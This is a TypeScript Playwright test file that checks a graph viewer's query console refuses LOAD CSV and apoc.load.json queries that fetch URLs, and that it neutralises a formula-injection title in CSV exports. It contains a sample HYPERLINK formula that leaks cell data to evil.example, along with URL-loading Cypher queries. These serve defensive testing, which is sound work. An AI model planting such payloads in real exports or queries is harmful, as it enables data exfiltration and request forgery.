/**
 * Issue 10, attacks 3 and 4 in the viewer's query console, in real
 * Chromium, on the real server and Neo4j (the seed articles, and one real
 * article whose title is a spreadsheet formula, ingested by `kg ingest`):
 *  - a LOAD CSV typed in the console is refused with a clear message and
 *    the loopback service it names receives nothing (the same query
 *    fetching the secret from a Neo4j run as before: neo4j/test/security/old-home.test.ts);
 *  - the console shows the formula title as the text it is, and its CSV
 *    download writes it neutralised, so a spreadsheet shows text.
 */
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { REPO_ROOT, type Connection } from '@kg/neo4j';
import { freshTestDatabase, graphCounts } from '@kg/neo4j/testing';
import { readCsv, spreadsheetReads } from '../../export/test/csv-reader';
import { startLoopbackService, type LoopbackService } from '../../neo4j/test/helpers/loopback-service';
import type { ViewerServer } from '../src/server/index';
import { openViewer, screenshot } from './helpers/browser';
import { openConsole, postJson, realErrors, runInConsole, tableRows, typeQuery } from './helpers/console';
import { ingestWithCli, seedViewer } from './helpers/neo4j';

jest.setTimeout(240_000);

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Read the full story")';

let conn: Connection;
let viewer: Awaited<ReturnType<typeof seedViewer>>;
let server: ViewerServer;
let browser: Browser;
let service: LoopbackService;
let dir: string;
beforeAll(async () => {
  conn = await freshTestDatabase();
  viewer = await seedViewer(conn);
  ({ server, browser } = viewer);
  service = await startLoopbackService();
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'kg-console-formula-'));
  const seed = await fs.readFile(path.join(REPO_ROOT, 'data/seeds/000_e6dca36353031d00.txt'), 'utf8');
  await fs.writeFile(path.join(dir, 'story.txt'), `title: ${FORMULA}\npublished: 2025-12-03\n\n${seed.split('\n').slice(1).join('\n').trim()}\n`);
  await ingestWithCli(conn.uri, dir);
});
afterAll(async () => {
  await viewer?.close();
  await service?.close();
  await conn?.close();
  if (dir) await fs.rm(dir, { recursive: true, force: true });
});

async function consolePage(): Promise<{ page: Page; errors: string[] }> {
  const opened = await openViewer(browser, server.url);
  await openConsole(opened.page);
  return opened;
}

test('attack 3: LOAD CSV of a loopback URL, typed in the console, is refused with a clear message; nothing is fetched, nothing changes', async () => {
  const before = await graphCounts(conn);
  const { page, errors } = await consolePage();
  for (const cypher of [`LOAD CSV FROM '${service.url}' AS row RETURN row`, `load /* x */ csv with headers from "${service.url}" as row return row`]) {
    await typeQuery(page, cypher);
    await runInConsole(page);
    const msg = await page.$eval('#console .console-message', (m) => ({ hidden: (m as HTMLElement).hidden, reason: (m as HTMLElement).dataset.reason, text: m.textContent ?? '' }));
    expect(msg).toMatchObject({ hidden: false, reason: 'loads-url' });
    expect(msg.text).toMatch(/^Refused: the console does not load from URLs or files/);
    expect(msg.text).toContain("kg's read-only queries do not load from URLs or files, and this one would (LOAD CSV)");
    expect(await page.isDisabled('#console button.csv')).toBe(true);
  }
  await screenshot(page, 'security-1-load-csv-refused');
  // The API says the same to anything else that posts it.
  const api = await postJson(`${server.url}api/query`, { cypher: 'CALL apoc.load.json($u) YIELD value RETURN value', params: { u: service.url } });
  expect(api.status).toBe(403);
  expect(await api.json()).toMatchObject({ reason: 'loads-url' });
  expect(service.requests).toEqual([]);
  expect(await graphCounts(conn)).toEqual(before);
  expect(realErrors(errors)).toEqual([]);
  await page.close();
});

test('attack 4: the console shows the formula title as text, and its CSV download writes it neutralised for spreadsheets', async () => {
  const { page, errors } = await consolePage();
  await typeQuery(page, "MATCH (a:Article) WHERE a.published = '2025-12-03' RETURN a.title AS title, a.published AS published ORDER BY title");
  await runInConsole(page);
  // The table is text (textContent): the formula is shown as it is, and it is what reached the result.
  const table = await tableRows(page);
  expect(table.columns).toEqual(['#', 'title', 'published']);
  expect(table.rows.map((r) => r[1])).toContain(FORMULA);
  expect(spreadsheetReads(FORMULA)).toBe('formula');

  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#console button.csv')]);
  expect(download.suggestedFilename()).toMatch(/^kg-query-\d{4}-\d\d-\d\d\.csv$/);
  const text = await fs.readFile((await download.path())!, 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff); // UTF-8 for spreadsheets
  const [header, ...rows] = readCsv(text);
  expect(header).toEqual(['title', 'published']);
  const cell = rows.find((r) => r[0]!.includes('HYPERLINK'))!;
  expect(cell).toEqual([`'${FORMULA}`, '2025-12-03']);
  for (const row of rows) expect(spreadsheetReads(row[0]!)).toBe('text');
  expect(rows.length).toBe(table.rows.length);
  await screenshot(page, 'security-2-csv-download');
  expect(realErrors(errors)).toEqual([]);
  await page.close();
});
